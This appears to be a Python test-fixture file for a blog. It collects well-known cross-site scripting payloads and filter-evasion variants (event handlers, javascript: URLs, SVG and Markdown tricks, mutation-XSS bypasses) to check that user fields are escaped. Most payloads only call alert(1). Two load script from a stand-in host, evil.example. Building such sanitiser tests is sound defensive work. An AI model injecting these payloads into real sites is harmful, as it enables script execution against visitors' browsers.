"""Well-known cross-site scripting shapes, for the tests that feed them to every field.

Written for this blog after the usual catalogues (OWASP's XSS filter-evasion cheat sheet,
PortSwigger's XSS cheat sheet, published mutation-XSS bypasses of HTML sanitisers).
Every payload that can run calls ``alert(1)``, so a browser that had been given a
hooked ``alert`` tells us it ran.
"""

SCRIPT_AND_EVENT_HANDLERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    '<img src=x onerror="&#x61;lert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click me</x>",
    '<a href="https://example.org" onclick="alert(1)">a link</a>',
    '<div style="width: expression(alert(1))">old IE</div>',
]

DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript:alert(1)//http://example.org",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="jav\tascript:alert(1)">',
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/xss.sct"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">send</button></form>',
    "<video poster=javascript:alert(1)//></video>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text x=20 y=20>x</text></a></svg>",
    '<svg><image href="x" onerror="alert(1)"/></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
]

# For fields shown inside attributes (the website in href, the title in <meta content>)
# and inside <title>, <textarea> and the JSON-LD <script>.
BREAK_OUTS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"/><svg/onload=alert(1)>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "<!--<script>",
    "</style><script>alert(1)</script>",
    'http://x.example/"><script>alert(1)</script>',
    "https://x.example/'onmouseover='alert(1)",
    'http://x.example/#"><img/src/onerror=alert(1)>',
    'https://"onmouseover="alert(1)"',
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "A note[^1].\n\n[^1]: [source](javascript:alert(1))",
    '*[XSS]: " onmouseover="alert(1)\n\nXSS here',
    '[x](https://example.org){: onclick="alert(1)" }',
    '## Heading {: onmouseover="alert(1)" }',
    '[x](https://example.org){: href="javascript:alert(1)" }',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]

MUTATION_AND_PARSER_TRICKS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
]

PAYLOADS = [
    *SCRIPT_AND_EVENT_HANDLERS,
    *DANGEROUS_URLS,
    *SVG_AND_MATHML,
    *BREAK_OUTS,
    *MARKDOWN,
    *MUTATION_AND_PARSER_TRICKS,
]
